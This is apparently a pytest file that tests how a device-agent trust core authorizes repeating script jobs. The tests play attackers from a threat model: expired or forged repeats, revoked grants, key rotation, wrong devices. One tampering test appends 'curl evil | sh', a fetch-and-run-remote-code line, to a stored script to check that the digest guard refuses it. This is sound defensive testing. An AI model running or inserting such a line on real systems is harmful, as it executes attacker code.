"""Repeating script jobs (script checks) in the trust core: ``Job.repeat`` and ``authorize_repeat``.

Each test plays an attacker (THREAT-MODEL.md) against the pure decision an
agent takes before every later run of a stored script check, and asserts the
precise refusal.
"""

from __future__ import annotations

import json
import time

import msgspec
import pytest
from harness.tenant import Tenant, env_bytes

from rampart import trust
from rampart.trust import DEFAULT_LIMITS, Job

D = "dev-" + "1" * 24
SCRIPT = b"#!/bin/sh\ntest ! -e /tmp/flag\n"


def _now() -> int:
    return int(time.time())


def _repeat(every: int = 60, lasts: int = 1800, name: str = "flag") -> trust.Repeat:
    return trust.Repeat(every_s=every, until=_now() + lasts, name=name)


def _pinned(t: Tenant) -> trust.TrustedRoot:
    return trust.pin_root(t.roots[0], expected_sha256=t.root_sha256, now=_now())


def _policy(device: str = D) -> trust.DevicePolicy:
    return trust.DevicePolicy(device_id=device, write_roots=("/srv/data",),
                              protected_paths=("/var/lib/rampart-agent",))


def _check(t: Tenant, grant: bytes, job: bytes, *, root: trust.TrustedRoot | None = None,
           now: int | None = None, script: bytes = SCRIPT, device: str = D,
           revoked: frozenset[str] = frozenset()) -> trust.RepeatAuthorization:
    return trust.authorize_repeat(root=root or _pinned(t), grant=grant, job=job,
                                  payloads={"script": script}, device=_policy(device),
                                  now=_now() if now is None else now, revoked_grants=revoked)


def _grant_id(grant: bytes) -> str:
    return trust.decode_payload(trust.decode_envelope(grant).payload, trust.Grant).id


def test_a_repeating_job_is_authorized_for_a_later_run_and_reports_its_end() -> None:
    t = Tenant()
    g = t.grant([D], seconds=3600)
    rep = _repeat(every=120, lasts=1800)
    a = _check(t, g, t.job(g, [D], SCRIPT, repeat=rep))
    assert a.repeat == rep and a.job.repeating == rep
    assert a.effective.run_as == "job"
    assert a.runs_until == rep.until  # the grant lasts longer
    short = t.grant([D], seconds=900)
    b = _check(t, short, t.job(short, [D], SCRIPT, repeat=rep))
    assert b.runs_until == b.grant.not_after < rep.until


def test_a_one_off_job_encodes_exactly_as_before_and_never_passes_as_a_repeat() -> None:
    t = Tenant()
    g = t.grant([D])
    job = t.job(g, [D], SCRIPT)
    payload = trust.decode_envelope(job).payload
    assert b"repeat" not in payload  # unchanged bytes: older agents accept new one-off jobs
    assert trust.decode_payload(payload, Job).repeating is None
    with pytest.raises(trust.CapabilityError, match="does not repeat"):
        _check(t, g, job)
    doc = json.loads(payload)
    doc["repeat"] = None  # "null" is not "absent": strict decoding refuses it
    with pytest.raises(trust.DecodeError, match="repeat"):
        trust.decode_payload(json.dumps(doc).encode(), Job)


def test_T1_a_server_replaying_an_expired_repeat_is_refused() -> None:
    t = Tenant()
    g = t.grant([D])
    job = t.job(g, [D], SCRIPT, repeat=_repeat(lasts=600))
    assert _check(t, g, job, now=_now() + 599)
    with pytest.raises(trust.ExpiredError, match="repeat period has ended"):
        _check(t, g, job, now=_now() + 600)


def test_T1_the_grant_end_stops_a_repeat_that_would_last_longer() -> None:
    t = Tenant()
    g = t.grant([D], seconds=900)
    job = t.job(g, [D], SCRIPT, repeat=_repeat(lasts=3000))
    with pytest.raises(trust.ExpiredError, match="grant has expired"):
        _check(t, g, job, now=_now() + 900)


def test_T3_a_revoked_grant_ends_the_repeat() -> None:
    t = Tenant()
    g = t.grant([D])
    job = t.job(g, [D], SCRIPT, repeat=_repeat())
    with pytest.raises(trust.RevokedError):
        _check(t, g, job, revoked=frozenset({_grant_id(g)}))


def test_T6_a_root_rotation_that_removed_the_signer_ends_the_repeat() -> None:
    t = Tenant()
    g = t.grant([D])
    job = t.job(g, [D], SCRIPT, repeat=_repeat())
    v1 = _pinned(t)
    assert _check(t, g, job, root=v1)
    v2 = trust.update_root(v1, [t.make_root(2, technicians=t.technicians[1:])], now=_now())
    with pytest.raises(trust.UnknownKeyError, match="not a technician of the pinned root"):
        _check(t, g, job, root=v2)


def test_T6_a_root_rotation_that_removed_the_approver_ends_the_repeat() -> None:
    t = Tenant()
    g = t.grant([D])
    job = t.job(g, [D], SCRIPT, repeat=_repeat())
    v1 = _pinned(t)
    t.approvers = t.approvers[1:]  # approvers[0] signed the grant
    v2 = trust.update_root(v1, [t.make_root(2)], now=_now())
    with pytest.raises(trust.ThresholdError):
        _check(t, g, job, root=v2)


def test_T3_an_automation_key_cannot_sign_a_repeat() -> None:
    t = Tenant()
    auto = t.automation[0]
    g = t.grant([D], grantee=auto, caps=("script",), seconds=3600)
    job = t.job(g, [D], SCRIPT, signer=auto, repeat=_repeat())
    with pytest.raises(trust.UnknownKeyError, match="not a technician"):
        _check(t, g, job)


@pytest.mark.parametrize("change, why", [
    ({"declared": {"writes": [], "connect": [], "run_as": "root"}}, "may not run as root"),
    ({"action": {"kind": "os-update", "args": [], "payloads": []}}, "only a script job"),
    ({"action": {"kind": "file", "args": ["/srv/data/x", "644"],
                 "payloads": [{"name": "file", "sha256": "0" * 64, "size": 1}]}}, "only a script job"),
    ({"repeat": {"every_s": 0, "until": 2_000_000_000}}, "every_s"),
    ({"repeat": {"every_s": DEFAULT_LIMITS.max_repeat_every_s + 1, "until": 2_000_000_000}}, "every_s"),
    ({"repeat": {"every_s": 60, "until": 1}}, "later than issued_at"),
    ({"repeat": {"every_s": 60, "until": 2_000_000_000, "name": "a\nb"}}, "name"),
    ({"repeat": {"every_s": 60, "until": 2_000_000_000, "extra": 1}}, "unknown field"),
])
def test_T3_repeat_only_on_a_script_that_does_not_run_as_root_and_within_bounds(
        change: dict[str, object], why: str) -> None:
    t = Tenant()
    g = t.grant([D])
    doc = json.loads(trust.decode_envelope(t.job(g, [D], SCRIPT, repeat=_repeat())).payload)
    doc.update(change)
    with pytest.raises(trust.DecodeError, match=why):
        trust.decode_payload(json.dumps(doc).encode(), Job)


def test_a_repeat_lasts_at_most_the_limit_from_its_issue() -> None:
    t = Tenant()
    g = t.grant([D])
    limit = DEFAULT_LIMITS.max_repeat_lifetime_s
    assert limit == 90 * 86400
    t.job(g, [D], SCRIPT, repeat=trust.Repeat(every_s=60, until=_now() + limit - 5), issued_at=_now())
    with pytest.raises(ValueError, match="at most 90 days"):
        t.job(g, [D], SCRIPT, repeat=trust.Repeat(every_s=60, until=_now() + limit + 5), issued_at=_now())


def test_T1_a_forged_until_or_interval_breaks_the_signature() -> None:
    t = Tenant()
    g = t.grant([D])
    job = t.job(g, [D], SCRIPT, repeat=_repeat(every=300, lasts=600))
    env = trust.decode_envelope(job)
    for field, value in (("until", _now() + 3000), ("every_s", 1)):
        doc = json.loads(env.payload)
        doc["repeat"][field] = value
        forged = trust.Envelope(env.payload_type, json.dumps(doc).encode(), env.signatures)
        with pytest.raises(trust.SignatureError):
            _check(t, g, forged.to_bytes())


def test_T1_a_server_re_signing_with_its_own_key_is_refused() -> None:
    t = Tenant()
    g = t.grant([D])
    job = t.job(g, [D], SCRIPT, repeat=_repeat())
    j = trust.decode_payload(trust.decode_envelope(job).payload, Job)
    server_key = trust.OperatorKey.generate()  # any key the root does not name
    forged = env_bytes(msgspec.structs.replace(j, signer=server_key.key_id), server_key)
    with pytest.raises(trust.UnknownKeyError):
        _check(t, g, forged)


def test_T8_a_stored_script_that_was_altered_is_refused() -> None:
    t = Tenant()
    g = t.grant([D])
    job = t.job(g, [D], SCRIPT, repeat=_repeat())
    with pytest.raises(trust.DigestMismatchError, match="signed SHA-256"):
        _check(t, g, job, script=SCRIPT + b"curl evil | sh\n")


def test_T5_another_device_cannot_run_the_repeat_and_targets_stay_in_the_grant() -> None:
    t = Tenant()
    other = "dev-" + "2" * 24
    g = t.grant([D, other])
    job = t.job(g, [D], SCRIPT, repeat=_repeat())
    with pytest.raises(trust.WrongDeviceError):
        _check(t, g, job, device=other)
    narrow = t.grant([D])
    wide = t.job(narrow, [D, other], SCRIPT, repeat=_repeat())
    with pytest.raises(trust.CapabilityError, match="outside the grant"):
        _check(t, narrow, wide)


def test_T3_the_grant_must_be_the_jobs_own_and_give_what_it_needs() -> None:
    t = Tenant()
    g = t.grant([D])
    job = t.job(g, [D], SCRIPT, repeat=_repeat(), connect=(443,))
    with pytest.raises(trust.CapabilityError, match="does not give"):
        _check(t, g, job)
    other = t.grant([D])
    with pytest.raises(trust.CapabilityError, match="different grant"):
        _check(t, other, t.job(g, [D], SCRIPT, repeat=_repeat()))


def test_the_nonce_is_not_rechecked_and_the_first_run_is_a_normal_job() -> None:
    """The first run consumed the nonce (authorize_job); later runs are not replays of it."""
    t = Tenant()
    g = t.grant([D])
    job = t.job(g, [D], SCRIPT, repeat=_repeat())
    index = t.append(job)
    ev = trust.LogEvidence(checkpoint=t.checkpoint(), index=index,
                           inclusion=tuple(t.tree.inclusion_proof(index)))
    first = trust.authorize_job(root=_pinned(t), grant=g, job=job, payloads={"script": SCRIPT}, log=ev,
                                last_checkpoint=None, device=_policy(), now=_now(),
                                seen_nonces=frozenset())
    assert first.job.repeating is not None
    with pytest.raises(trust.ReplayError):  # the server re-sending the job is a replay
        trust.authorize_job(root=_pinned(t), grant=g, job=job, payloads={"script": SCRIPT}, log=ev,
                            last_checkpoint=None, device=_policy(), now=_now(),
                            seen_nonces={first.job.nonce})
    assert _check(t, g, job).job.id == first.job.id
